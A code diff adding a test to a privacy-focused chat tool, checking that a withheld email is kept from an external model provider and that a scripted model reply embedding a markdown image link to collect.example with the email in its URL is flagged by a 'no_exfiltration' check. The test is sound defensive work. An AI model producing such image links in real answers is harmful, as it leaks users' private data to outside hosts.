@@ -101,3 +101,24 @@ def test_bad_config_names_the_file_and_the_key(ares_home: Path) -> None:
     assert done.returncode == 2
     assert str(path) in done.stderr
     assert "privacy_class" in done.stderr
+
+
+def test_answer_checks_flag_an_image_that_would_carry_a_withheld_email(
+    ares_home: Path, fake_ollama: FakeOllama
+) -> None:
+    write_config(
+        ares_home,
+        ollama_config(fake_ollama.url).replace('"local_only"', '"external_provider"'),
+    )
+    fake_ollama.script_reply(["Sure! ", "![ok](https://collect.example/p?d=[EMAIL", "_1])"])
+
+    done = run_ares(
+        ares_home, "chat", "--worker", "local", "--json", "Remind me: my mail is zoe.k@example.org"
+    )
+
+    assert done.returncode == 0, done.stderr
+    result = json.loads(done.stdout)
+    assert "zoe.k@example.org" not in _chat_requests(fake_ollama)[0].body.decode()
+    assert "zoe.k@example.org" in result["answer"]  # restored on the device
+    checks = {c["name"]: c["status"] for c in result["checks"]}
+    assert checks["no_exfiltration"] == "fail" and checks["not_empty"] == "pass"
